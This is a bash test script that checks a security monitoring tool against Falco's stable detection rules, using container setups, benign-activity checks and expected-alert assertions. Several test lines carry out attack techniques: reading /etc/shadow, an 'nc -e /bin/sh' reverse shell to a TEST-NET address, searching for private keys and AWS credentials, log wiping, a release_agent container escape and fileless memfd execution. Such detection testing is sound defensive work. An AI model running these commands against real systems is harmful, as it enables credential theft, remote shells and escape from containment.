#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# falco_rules.sh - Falco's stable rules, unmodified: each fires on what it
# describes (as falcosecurity's event-generator does it), and on nothing else of
# it; then what every host does all day raises none but those that Falco, too,
# would raise. SOURCE=auditd: through auditd and its plugin instead of netlink.
. "${top_srcdir:-.}/tests/live/lib.sh"

falco=${SAKER_TEST_DATA:-$top_srcdir/../shared/data}/falco/falco_rules.yaml
[ -r "$falco" ] || skip "Falco's rules are not here"
begin runc busybox script find shred
own_rules_only=yes
install -m 644 "$falco" "$work/rules/falco_rules.yaml"
# Their outputs tell the ancestors too, so that what others do on this host at the
# same time can be told from what the test does.
ancestors=$(printf ' %%proc.apid[%d]' {1..12})
sed -n 's/^- rule: //p' "$falco" | while read -r rule; do
	printf '%s rule: %s\n  output: " ancestors:%s"\n  override: {output: append}\n' \
		- "$rule" "$ancestors"
done >"$work/rules/falco_rules_told.yaml"
act=$work/act
install -m 755 "$top_builddir/tests/live/act" "$act"
for name in httpd login ssh; do
	ln -s act "$work/$name"
done
server=203.0.113.7 # TEST-NET-3: no private address, and nobody's

# fired_since LINES: the rules that a descendant of ours fired after so many lines
# of alerts.
fired_since()
{
	tail -n "+$(($1 + 1))" "$work/alerts.json" |
		jq -r --argjson self "$$" 'select([.output_fields | to_entries[] |
			select(.key | startswith("proc.apid")).value] | index($self)).rule' | sort -u
}

# expect RULES COMMAND...: RULES, a line each, are what the command fires.
expect()
{
	local rules=$1 before fired

	shift
	before=$(wc -l <"$work/alerts.json")
	"$@" </dev/null >>"$work/acts.out" 2>&1
	expect_rc=$?
	marker
	fired=$(fired_since "$before")
	equal "${rules:-nothing}: $*" "$rules" "$fired"
	printf '%s\n' "$fired" >>"$work/fired"
}

in_container()
{
	runc exec saker-falco "$@"
}

# A container on an overlay, as engines make them, with the rights that some
# rules ask for.
start_container()
{
	make_bundle "$work/container" "" '.process.args = ["sleep", "1000"] |
		.process.capabilities[] = ["CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_NET_RAW",
			"CAP_NET_ADMIN", "CAP_DAC_OVERRIDE"] | .root.path = "merged"'
	install -m 755 "$act" "$work/container/rootfs/bin/act"
	ln "$work/container/rootfs/bin/act" "$work/container/rootfs/bin/nc"
	ln -s busybox "$work/container/rootfs/bin/cp"
	mkdir "$work/container"/{upper,work,merged}
	mount -t overlay overlay -o "lowerdir=$work/container/rootfs,upperdir=$work/container/upper,workdir=$work/container/work" \
		"$work/container/merged" || die "no overlay"
	mounts+=("$work/container/merged")
	run_detached "$work/container" saker-falco ||
		die "runc: $(cat "$work/saker-falco.out")"
}

# A container with all that an engine's --privileged gives.
start_privileged()
{
	make_bundle "$work/privileged" "" '.process.args = ["sleep", "1000"] |
		.process.capabilities[] = ["CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_SYS_RAWIO",
			"CAP_SYS_PTRACE", "CAP_NET_ADMIN", "CAP_DAC_READ_SEARCH"] |
		.linux.maskedPaths = [] | .linux.readonlyPaths = [] |
		.linux.resources.devices = [{allow: true, access: "rwm"}] |
		.mounts |= map(if .type == "sysfs" then .options -= ["ro"] else . end)'
	install -m 755 "$act" "$work/privileged/rootfs/bin/debugfs"
	run_detached "$work/privileged" saker-privileged ||
		die "runc: $(cat "$work/saker-privileged.out")"
}

stable_rules_fire()
{
	expect "Directory traversal monitored file read" \
		"$act" run cat /etc/../etc/../etc/shadow
	expect "Read sensitive file trusted after startup" "$work/httpd" after 6 /etc/shadow
	expect "Read sensitive file untrusted" cat /etc/shadow
	expect "Read sensitive file untrusted" cat /etc/pam.d/login
	expect "Run shell untrusted" "$work/httpd" run sh -c 'true >/dev/null'
	expect "System user interactive" "$act" as 1 "$work/login" read /etc/hostname
	expect "Terminal shell in container" \
		script -qec "runc exec -t saker-falco sh -c true" /dev/null
	# not by busybox's shell: that runs its applets as /proc/self/exe, named "exe"
	expect "Netcat Remote Code Execution in Container" in_container nc -e /bin/sh "$server" 22
	expect "Search Private Keys or Passwords" find "$work" -maxdepth 1 -iname id_rsa
	expect "Search Private Keys or Passwords" grep "BEGIN RSA PRIVATE" "$work/kernel.rules"
	expect "Clear Log Activities" "$act" empty "$work/syslog"
	expect "Clear Log Activities" in_container act empty /tmp/auth.log
	touch "$work/data"
	expect "Remove Bulk Data from Disk" shred -u "$work/data"
	expect "Create Symlink Over Sensitive Files" ln -s /etc "$work/etc_link"
	expect "Create Symlink Over Sensitive Files" ln -s /etc/shadow "$work/shadow_symlink"
	expect "Create Hardlink Over Sensitive Files" ln /etc/shadow "$work/shadow_link"
	rm -f "$work/shadow_link"
	expect "Packet socket created in container" in_container act packet
	expect "Redirect STDOUT/STDIN to Network Connection in Container" \
		in_container act served "$server" 4444 act redirect "$server" 4444
	expect "Linux Kernel Module Injection Detected" in_container act module
	expect "Debugfs Launched in Privileged Container" \
		runc exec saker-privileged debugfs read /etc/hostname
	expect "Detect release_agent File Container Escapes" \
		in_container sh -c 'echo hello >release_agent'
	expect "PTRACE attached to process" "$act" attach
	expect "PTRACE anti-debug attempt" "$act" traceme
	expect "Find AWS Credentials" find "$work" -maxdepth 1 -iname .aws/credentials
	expect "Find AWS Credentials" grep aws_secret_access_key "$work/kernel.rules"
	printf '#!/bin/sh\necho hello\n' >"$shm/script"
	chmod 755 "$shm/script"
	expect "Execution from /dev/shm" sh -c "$shm/script"
	expect "Drop and execute new binary in container" \
		in_container sh -c 'cp /bin/act /tmp/dropped; exec /tmp/dropped read /etc/hostname'
	expect "Disallowed SSH Connection Non Standard Port" \
		"$act" served "$server" 443 "$work/ssh" connect "$server" 443
	expect "Fileless execution via memfd_create" "$act" memfd "$(type -P true)"
}

# A package with what most have: a configuration file, scripts, a manual page.
make_package()
{
	mkdir -p "$work/package"/{DEBIAN,etc,usr/bin,usr/share/man/man1}
	cat >"$work/package/DEBIAN/control" <<-'END'
	Package: saker-live-test
	Version: 1
	Architecture: all
	Maintainer: nobody <nobody@example.org>
	Description: installed and removed by a test
	END
	printf '/etc/saker-live-test.conf\n' >"$work/package/DEBIAN/conffiles"
	printf '#!/bin/sh\nset -e\nldconfig\nid nobody >/dev/null\n' >"$work/package/DEBIAN/postinst"
	printf '#!/bin/sh\nexit 0\n' >"$work/package/usr/bin/saker-live-test"
	printf '.TH saker-live-test 1\n' >"$work/package/usr/share/man/man1/saker-live-test.1"
	printf 'key=value\n' >"$work/package/etc/saker-live-test.conf"
	chmod 755 "$work/package/DEBIAN/postinst" "$work/package/usr/bin/saker-live-test"
	dpkg-deb --root-owner-group -b "$work/package" "$work/saker-live-test.deb" >/dev/null
}

install_package()
{
	apt-get -y install "$work/saker-live-test.deb" && apt-get -y purge saker-live-test
}

# From the archive, where that can be reached.
install_from_archive()
{
	apt-get -y install hello && apt-get -y purge hello
}

compile()
{
	mkdir -p "$work/source"
	printf '#include <stdio.h>\nint main(void) { return puts("hello") < 0; }\n' >"$work/source/hello.c"
	printf 'hello: hello.c\n\t$(CC) -O2 -o $@ hello.c\n' >"$work/source/Makefile"
	make -C "$work/source" && "$work/source/hello"
}

start_containers()
{
	local i

	make_bundle "$work/plain" "" '.process.args = ["sh", "-c", "id; echo x >/tmp/x; cat /tmp/x"]'
	for i in 1 2 3; do
		runc run --bundle "$work/plain" saker-plain || return
		runc exec saker-falco sh -c 'cat /proc/self/status >/tmp/status' || return
	done
	crun_run
}

# A cron of our own, in a mount namespace where it finds our table alone.
cron_job()
{
	mkdir -p "$work/crontabs" "$work/empty"
	printf '* * * * * id >%s/cron.done\n' "$work" >"$work/crontabs/root"
	chmod 600 "$work/crontabs/root"
	unshare -m sh -c "mount -t tmpfs tmpfs /run && mount --bind $work/crontabs /var/spool/cron/crontabs &&
		mount --bind $work/empty /etc/cron.d && mount --bind /dev/null /etc/crontab && exec cron -f" 9>&- &
	pids+=("$!")
	within 100 test -s "$work/cron.done"
}

start_sshd()
{
	local sshd

	sshd=$(type -P sshd) || return
	mkdir -p "$work/sshd" /run/sshd
	ssh-keygen -qt ed25519 -N '' -f "$work/sshd/key"
	ssh-keygen -qt ed25519 -N '' -f "$work/sshd/host"
	printf '%s\n' 'Port 40022' 'ListenAddress 127.0.0.1' "HostKey $work/sshd/host" "PidFile none" \
		"AuthorizedKeysFile $work/sshd/key.pub" 'StrictModes no' 'UsePAM yes' \
		'PermitRootLogin yes' 'Subsystem sftp internal-sftp' >"$work/sshd/config"
	"$sshd" -D -f "$work/sshd/config" </dev/null >"$work/sshd.out" 2>&1 9>&- &
	pids+=("$!")
	wait_for 10 log_in true
}

log_in()
{
	ssh -p 40022 -i "$work/sshd/key" -o BatchMode=yes -o StrictHostKeyChecking=no \
		-o UserKnownHostsFile=/dev/null root@127.0.0.1 "$@"
}

sudo_session()
{
	sudo -n id && sudo -n -u daemon id && sudo -n sh -c 'id; true'
}

# benign WHAT COMMAND...: must work, and fires nothing.
benign()
{
	expect "" "${@:2}"
	[ "$expect_rc" -eq 0 ] || not_ok "$1: it did not work: $(tail -n 3 "$work/acts.out")"
}

# benign_with WHAT PROGRAM COMMAND...: where the program is.
benign_with()
{
	if type -P "$2" >/dev/null; then
		benign "$1" "${@:3}"
	else
		echo "skipped: $1: no $2 here"
	fi
}

daily_life_is_silent()
{
	export DEBIAN_FRONTEND=noninteractive
	if type -P apt-get dpkg-deb >/dev/null; then
		make_package
		benign "a package" install_package
		if ! dpkg -s hello >/dev/null 2>&1 && timeout 60 apt-get -y -d install hello >/dev/null 2>&1; then
			benign "a package of the archive" install_from_archive
		else
			echo "skipped: a package of the archive: not reached, or hello is installed"
		fi
	else
		echo "skipped: packages: no apt-get here"
	fi
	benign_with "a compile" gcc compile
	benign "container starts" start_containers
	benign_with "a cron job" cron cron_job
	benign_with "a sudo session" sudo sudo_session
	benign_with "sshd starts" sshd start_sshd
	benign_with "an ssh command" sshd log_in id
	benign_with "an ssh session" sshd log_in -tt 'id; ls -l /etc/shadow'
	benign_with "a copy" sshd sh -c "echo put $work/kernel.rules $work/copied | sftp -b - -P 40022 \
		-i $work/sshd/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1"
	# what Falco says, too: a system user's program below sshd
	! type -P sshd sudo >/dev/null ||
		expect "System user interactive" log_in sudo -n -u daemon id
}

load_kernel_rules "$(grep '^-a' "$top_srcdir/audit.rules.d/examples/60-falco-stable.rules")"
shm=$(mktemp -d /dev/shm/saker-live.XXXXXX)
if [ "${SOURCE:-netlink}" = auditd ]; then
	start_saker_plugin
	chmod 755 "$work" # auditd closes the directory of its log
else
	start_saker_netlink
fi
start_container
start_privileged
stable_rules_fire
rm -rf "$shm"
daily_life_is_silent
if [ "${SOURCE:-netlink}" = auditd ]; then
	stop_auditd
else
	stop_saker
	tail -n 1 "$work/saker.err"
fi
echo "rules that fired: $(sort -u "$work/fired" | grep -c .) of $(grep -c "^- rule:" "$falco")"
equal "the kernel lost nothing" 0 "$(kernel_lost)"
